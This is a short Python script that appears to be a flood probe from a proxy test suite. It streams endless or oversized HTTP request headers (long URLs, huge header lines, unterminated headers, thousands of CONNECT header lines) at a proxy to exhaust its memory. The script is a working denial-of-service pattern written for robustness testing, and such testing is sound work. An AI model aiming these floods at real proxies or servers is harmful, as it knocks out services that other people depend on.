"""Sends the proxy heads without end: one long line, many lines, and never the last one, until its memory ends.

group: floods
effect: proves
allow: web.example.com:80
asks: web.example.com
reaches: tcp 93.184.216.34:80
"""
MUCH = 32 << 20  # more than all buffers on the way hold
for begin, more in (("GET http://web.example.com/", "a" * 65536), ("GET http://web.example.com/ HTTP/1.1\r\n", "X: " + "y" * 65530 + "\r\n"), ("GET http://web.example.com/ HTTP/1.1\r\nX:", "y" * 65536), ("CONNECT web.example.com:80 HTTP/1.1\r\n", "X: y\r\n" * 10000)):
    with attempt(begin), stream(*PROXY, seconds=5) as fd:
        send(fd, begin.encode())
        for _ in range(MUCH // len(more)):
            send(fd, more.encode())
        won()
        raise SystemExit
